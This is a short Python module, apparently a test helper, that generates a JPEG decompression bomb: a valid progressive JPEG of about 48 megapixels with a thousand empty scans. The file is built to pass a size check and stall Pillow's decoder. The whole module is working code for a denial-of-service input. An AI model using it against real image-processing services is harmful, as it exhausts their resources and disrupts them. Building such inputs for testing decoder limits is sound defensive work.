"""A bomb: small, valid, and made of a thousand scans that each visit every block of the picture.

A JPEG whose scans are all there and all empty: Pillow has no reason to refuse it, and takes longer than any
function may run. ITU-T T.81 names the markers (table B.1) and the end-of-band runs (G.1.2.2).
"""

import struct

SIDE = 6928  # pixels; 48 megapixels, below what Catalight refuses
SCANS = 1000
BLOCK = 8

_END_OF_BAND_RUN = 0xE0  # EOB14: 14 further bits tell how many blocks beyond 16,384 have nothing to add
_LONGEST_RUN = 0x7FFF


def draw(side: int = SIDE, scans: int = SCANS) -> bytes:
    """A grey progressive JPEG of `side` x `side` pixels with `scans` scans that change nothing."""
    blocks = (-(-side // BLOCK)) ** 2
    return b"".join(
        (
            b"\xff\xd8",
            _segment(0xDB, bytes([0]) + bytes([1]) * 64),
            _segment(0xC2, struct.pack(">BHHBBBB", 8, side, side, 1, 1, 0x11, 0)),
            _segment(0xC4, _table(0x00, 0)),
            _segment(0xC4, _table(0x10, _END_OF_BAND_RUN)),
            _scan(first=0, last=0, bits="0" * blocks),
            _scan(first=1, last=63, bits=_nothing(blocks), approximation=0x01),
            _scan(first=1, last=63, bits=_nothing(blocks), approximation=0x10) * scans,
            b"\xff\xd9",
        )
    )


def _segment(marker: int, body: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


def _table(name: int, symbol: int) -> bytes:
    """A Huffman table of one symbol, whose code is the bit 0."""
    return bytes([name, 1, *[0] * 15, symbol])


def _scan(first: int, last: int, bits: str, approximation: int = 0) -> bytes:
    """One scan of coefficients `first` to `last`; its bits are padded with ones, and never make a marker."""
    header = _segment(0xDA, bytes([1, 1, 0x00, first, last, approximation]))
    padded = bits + "1" * (-len(bits) % 8)
    data = int(padded, 2).to_bytes(len(padded) // 8, "big")
    return header + data.replace(b"\xff", b"\xff\x00")


def _nothing(blocks: int) -> str:
    """End-of-band runs over all blocks."""
    full, rest = divmod(blocks, _LONGEST_RUN)
    runs = [_LONGEST_RUN] * full + ([rest] if rest else [])
    assert not rest or rest >= 1 << 14, "the last run is shorter than the one symbol can tell"
    return "".join(f"0{run - (1 << 14):014b}" for run in runs)
